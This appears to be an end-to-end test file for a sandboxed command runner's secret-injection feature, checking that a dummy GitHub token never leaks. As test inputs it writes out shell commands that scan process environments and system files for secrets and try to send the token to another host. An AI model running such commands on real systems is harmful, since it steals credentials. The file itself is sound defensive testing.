/** `warren run --secret`, as it is shipped: a daemon with a vault, real sandboxes, TLS servers of this machine. What is tried here to get at the value fails. */
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { WebSocket } from 'ws';
import { TestDaemon } from '../../packages/cli/src/e2e/daemon.ts';
import { PATIENCE_MS, printed, type Result, User } from '../../packages/cli/src/e2e/warren.ts';
import { TestAuthority } from '../ssrf/certificates.ts';

vi.setConfig({ testTimeout: PATIENCE_MS, hookTimeout: PATIENCE_MS });

const VALUE = 'ghp_0123456789abcdefABCDEF0123456789';
const NAME = 'GITHUB_TOKEN';

type Web = AsyncDisposable & { readonly port: number; readonly seen: string[] };

let authority: TestAuthority;
let user: User;
let daemon: TestDaemon;
let api: Web;
/** The same machine by another address: another host. */
let other: Web;

beforeAll(async () => {
  authority = await TestAuthority.create();
  const certificate = await authority.issue(['IP:127.0.0.2', 'IP:127.0.0.3']);
  other = await serve(certificate, '127.0.0.3', () => '');
  api = await serve(certificate, '127.0.0.2', (path) => (path === '/away' ? `https://127.0.0.3:${other.port}/caught` : ''));
  user = await User.create();
  const { mkdir } = await import('node:fs/promises');
  await mkdir(user.state, { mode: 0o700 });
  writeFileSync(join(user.state, 'ca.pem'), authority.ca);
  writeFileSync(join(user.state, 'config.yaml'), 'egress: { private_networks: [127.0.0.0/8], ca_file: ca.pem }\n');
  daemon = await TestDaemon.start(user);
  const binding = ['--host', `127.0.0.2:${api.port}`, '--capability', 'process.run'];
  expect(await user.warren(['secret', 'set', NAME, ...binding], { input: VALUE })).toMatchObject({ code: 0 });
});

afterAll(async () => {
  await daemon?.[Symbol.asyncDispose]();
  await user?.[Symbol.asyncDispose]();
  await Promise.all([api, other].map((web) => web?.[Symbol.asyncDispose]()));
  await authority?.[Symbol.asyncDispose]();
});

async function serve(certificate: { cert: string; key: string }, address: string, redirect: (path: string) => string): Promise<Web> {
  const seen: string[] = [];
  const server = createServer(certificate, async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    const { method, url = '', headers } = request;
    seen.push(`${method} ${url} ${headers.authorization ?? ''} ${body}`);
    const location = redirect(url);
    if (location !== '') response.writeHead(302, { location }).end();
    else response.end(`hello ${headers.authorization ?? 'nobody'} ${body}`);
  });
  server.listen(0, address);
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** What anybody was shown of a run. */
const shown: string[] = [];

async function run(script: string, ...flags: readonly string[]): Promise<Result> {
  api.seen.length = 0;
  other.seen.length = 0;
  const hosts = ['--allow-host', `127.0.0.2:${api.port}`, '--allow', `127.0.0.3:${other.port}`];
  const result = await user.warren(['run', ...hosts, ...(flags.length === 0 ? ['--secret', NAME] : flags), '--', 'sh', '-c', script]);
  shown.push(result.stdout, result.stderr);
  return result;
}

const url = (path = '/'): string => `https://127.0.0.2:${api.port}${path}`;
const GET = `curl -sS -H "Authorization: Bearer $${NAME}"`;

describe('a command', () => {
  it('has a placeholder, its host has the value, and what comes back has none', async () => {
    const { code, stdout } = await run(
      `echo $${NAME}; ${GET} ${url()}; wget -qO- --header "Authorization: token $${NAME}" ${url('/wget')}`,
    );
    expect(stdout).toMatch(
      /^warren-secret-GITHUB_TOKEN-[0-9a-f]{32}\nhello Bearer \[redacted:GITHUB_TOKEN\] hello token \[redacted:GITHUB_TOKEN\] $/,
    );
    expect([code, api.seen]).toEqual([0, [`GET / Bearer ${VALUE} `, `GET /wget token ${VALUE} `]]);
  });

  it('finds the value in no environment, file or process of its sandbox', async () => {
    const places =
      'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; find /run /tmp /home /etc /dev/shm -xdev -type f -exec cat {} + 2>/dev/null';
    const { stdout } = await run(`${GET} -o /tmp/answer ${url()}; ${places}`);
    expect(api.seen).toEqual([`GET / Bearer ${VALUE} `]);
    expect(stdout).toContain('[redacted:GITHUB_TOKEN]');
    expect(stdout).not.toMatch(/PRIVATE KEY/);
    expect(stdout).not.toContain(VALUE);
  });

  it('does not get it to another host, not by a redirect either', async () => {
    const said = await run(
      `${GET} -w ' %{http_code}' https://127.0.0.3:${other.port}/; ${GET} -L ${url('/away')}; ${GET} --location-trusted -w ' %{http_code}' ${url('/away')}`,
    );
    expect(said.stdout).toMatch(/"reason":"secret_not_bound".* 403.*hello nobody .*"reason":"secret_not_bound".* 403$/s);
    expect(api.seen).toEqual([`GET /away Bearer ${VALUE} `, `GET /away Bearer ${VALUE} `]);
    expect(other.seen).toEqual(['GET /caught  ']);
  });

  it('cannot put it where it was not said that it may stand', async () => {
    const wrong = [
      `curl -sS -d "token=$${NAME}" ${url('/body')}`,
      `curl -sS "${url('/query')}?q=$${NAME}"`,
      `curl -sS "${url('/')}$${NAME}"`,
      `curl -sS -H "X-Note: $${NAME}" ${url('/note')}`,
      `curl -sS -H "Authorization: Bearer warren-secret-GITHUB_TOKEN-${'0'.repeat(32)}" ${url('/guess')}`,
    ];
    const { stdout } = await run(wrong.join('; '));
    expect(stdout.match(/"reason":"secret_(?:misplaced|not_bound)"/g)).toHaveLength(wrong.length);
    expect(api.seen).toEqual([]);
    const right = await run(`curl -sS -d "token=$T" ${url('/body')}; curl -sS "${url('/query')}?q=$T"`, '--secret', `T=${NAME}:query,body`);
    expect([right.code, api.seen]).toEqual([0, [`POST /body  token=${VALUE}`, `GET /query?q=${VALUE}  `]]);
  });

  it('leaves a placeholder as it is where nothing is looked into', async () => {
    const { stdout } = await run(
      `printf %s "$${NAME}" | gzip > /tmp/body; curl -sS --data-binary @/tmp/body -H 'Content-Encoding: gzip' -o /dev/null -w '%{http_code}' ${url('/zip')}`,
    );
    expect(stdout).toBe('200');
    expect(api.seen.join()).not.toContain(VALUE);
  });

  it('is told in the audit and the events of its workspace, without the value', async () => {
    await run(`${GET} ${url()}; curl -sS https://127.0.0.4/`);
    const audit = await user.warren(['audit', 'search', '--action', 'run.network', '--json']);
    const { entries } = JSON.parse(audit.stdout);
    const last = entries.at(-1) ?? {};
    expect(JSON.stringify(entries)).toContain('"secrets"');
    expect(last).toMatchObject({ action: 'run.network' });
    const events = await user.warren(['kernel', 'events', '--kind', 'egress.decided', '--json']);
    expect(events.stdout).toContain('host_not_allowed');
    expect(events.stdout).toContain(`${api.port}`);
    shown.push(audit.stdout, events.stdout);
  });

  it('is refused before it starts when the secret could be used in no request, with the command that mends it', async () => {
    const missing = await run('true', '--secret', 'nothing');
    expect([missing.code, missing.stderr]).toEqual([
      125,
      expect.stringContaining(`warren secret set nothing --host 127.0.0.2:${api.port} --capability process.run`),
    ]);
    await user.warren(['secret', 'set', 'unbound', '--host', '127.0.0.9'], { input: 'some-other-value' });
    const unbound = await run('true', '--secret', 'unbound');
    expect(unbound.stderr).toContain(`warren secret bind unbound --host 127.0.0.2:${api.port} --capability process.run`);
    const elsewhere = await run('true', '--secret', NAME, '--workspace', 'nowhere');
    expect([elsewhere.code, elsewhere.stderr]).toEqual([125, expect.stringContaining('nowhere')]);
    await user.warren(['workspace', 'create', 'team']);
    const team = await run('true', '--secret', NAME, '--workspace', 'team');
    expect(team.stderr).toContain(`--capability process.run --workspace team`);
    await user.warren(['secret', 'revoke', NAME]);
    expect((await run('true')).stderr).toContain(`warren secret restore ${NAME}`);
    await user.warren(['secret', 'restore', NAME]);
  });

  it('is the only one who speaks through its network, which is asked for in one way', async () => {
    const ask = async (query: string, ...messages: readonly string[]): Promise<string> => {
      const socket = new WebSocket(`ws+unix:${join(user.state, 'warren.sock')}:/run-network${query}`);
      const said: string[] = [];
      socket.on('unexpected-response', (_, answer) => {
        said.push(String(answer.statusCode));
        socket.terminate();
      });
      socket.on('error', () => {}); // Its end says all.
      socket.on('message', (data) => said.push(String(data)));
      socket.once('open', () => {
        for (const message of messages) socket.send(message);
      });
      await new Promise((resolve) => socket.once('close', resolve));
      return said.join('\n');
    };
    const secret = { name: NAME, variable: 'T', places: ['header'] };
    const hosts = [`127.0.0.2:${api.port}`];
    expect(await ask(`?id=${'A'.repeat(43)}`)).toBe('404');
    const malformed = [
      ...['{', '[]', 'null', '{}', JSON.stringify({ hosts, secrets: [], rules: [] }), JSON.stringify({ hosts: [], secrets: [secret] })],
      JSON.stringify({ hosts: Array(257).fill('a.test'), secrets: [] }),
      JSON.stringify({ hosts: ['a'.repeat(301)], secrets: [] }),
      JSON.stringify({ hosts: ['a b'], secrets: [] }),
      JSON.stringify({ hosts, secrets: [{ ...secret, variable: 'A=B' }] }),
      JSON.stringify({ hosts, secrets: [{ ...secret, places: ['path'] }] }),
      JSON.stringify({ hosts, secrets: [{ ...secret, places: [] }] }),
      JSON.stringify({ hosts, secrets: [secret, secret] }),
    ];
    for (const message of malformed)
      expect([message.slice(0, 80), await ask('', message)]).toEqual([message.slice(0, 80), expect.stringContaining('invalid_argument')]);
    expect(await ask('', JSON.stringify({ hosts, secrets: [{ ...secret, name: '../x' }] }))).toMatch(/invalid_argument|not_found/);
    // Asked twice, it is over, and so is what was opened.
    const twice = await ask('', JSON.stringify({ hosts, secrets: [secret] }), JSON.stringify({ hosts, secrets: [secret] }));
    const { id = 'none' } = twice === '' ? {} : JSON.parse(twice);
    expect(await ask(`?id=${id}`)).toBe('404');
    await vi.waitFor(async () => {
      const { agents } = JSON.parse((await user.warren(['kernel', 'agents', '--json', '--limit', '1000'])).stdout);
      const runs = agents.filter(({ name }: { name: string }) => name === 'warren-run');
      expect(runs.length).toBeGreaterThan(5);
      expect(new Set(runs.map(({ state }: { state: string }) => state))).toEqual(new Set(['DEAD']));
    }, PATIENCE_MS);
  });

  it('has revoked what is revoked while it runs, and nothing when the daemon ends', async () => {
    const child = user.start([
      'run',
      '--allow',
      `127.0.0.2:${api.port}`,
      '--secret',
      NAME,
      '--',
      'sh',
      '-c',
      `${GET} ${url()}; echo ready; read x; ${GET} ${url()}; echo again; read x; ${GET} ${url()}`,
    ]);
    const said: Buffer[] = [];
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => said.push(chunk));
    const closed = once(child, 'close');
    await printed(child, 'ready');
    await user.warren(['secret', 'revoke', NAME]);
    api.seen.length = 0;
    child.stdin.write('\n');
    await printed(child, 'again');
    expect([api.seen, Buffer.concat(said).toString()]).toEqual([[], expect.stringContaining('secret_not_bound')]);
    await daemon[Symbol.asyncDispose]();
    child.stdin.end('\n');
    await closed;
    const text = Buffer.concat(said).toString();
    expect(text).toContain('the daemon has ended');
    expect(api.seen).toEqual([]);
    shown.push(text);
  });

  it('says what to do where no daemon runs', async () => {
    const { code, stderr } = await run('true');
    expect([code, stderr]).toEqual([125, expect.stringMatching(/no daemon runs on .*\n.*warren serve --detach/s)]);
  });

  it('has shown the value to nobody in any of this', () => {
    expect(shown.length).toBeGreaterThan(20);
    for (const text of shown) expect(text).not.toContain(VALUE);
  });
});

describe('without a secret', () => {
  it('TLS is opened here, by authorities of a file, and what was asked for is said at the end', async () => {
    writeFileSync(join(user.home, 'ca.pem'), authority.ca);
    const { code, stdout, stderr } = await run(
      `curl -sS ${url()}; curl -sS -o /dev/null https://127.0.0.9/`,
      '--inspect',
      '--ca',
      'ca.pem',
    );
    expect([code, stdout]).toEqual([56, 'hello nobody ']);
    expect(stderr).toContain(`warren: GET 127.0.0.2:${api.port} allowed\nwarren: CONNECT 127.0.0.9:443 denied (host_not_allowed)\n`);
    const json = await run(`curl -sS ${url()}`, '--inspect', '--ca', 'ca.pem', '--json');
    expect(JSON.parse(json.stdout)).toMatchObject({ requests: [{ verdict: 'allowed', method: 'GET', host: '127.0.0.2', count: 1 }] });
    const untrusted = await run(`curl -sS ${url()}`, '--inspect');
    expect(untrusted.stdout).toContain('tls_failed');
  });

  it.each([
    [['--inspect', '--ca', 'nothing.pem'], 'there is no such file'],
    [['--inspect', '--ca', '.'], 'it is no file'],
    [['--ca', 'ca.pem'], 'without --inspect'],
    [['--ca', 'ca.pem', '--secret', NAME], 'egress.ca_file'],
    [['--workspace', 'x'], 'without --secret'],
    [['--secret', NAME, '--env', `${NAME}=x`], 'something else is to stand there'],
    [['--secret', `${NAME}:cookie`], ':header, :query or :body'],
  ])('%j is refused before anything starts', async (flags, why) => {
    const { code, stderr } = await run('echo started', ...flags);
    expect([code, stderr]).toEqual([125, expect.stringContaining(why)]);
  });
});
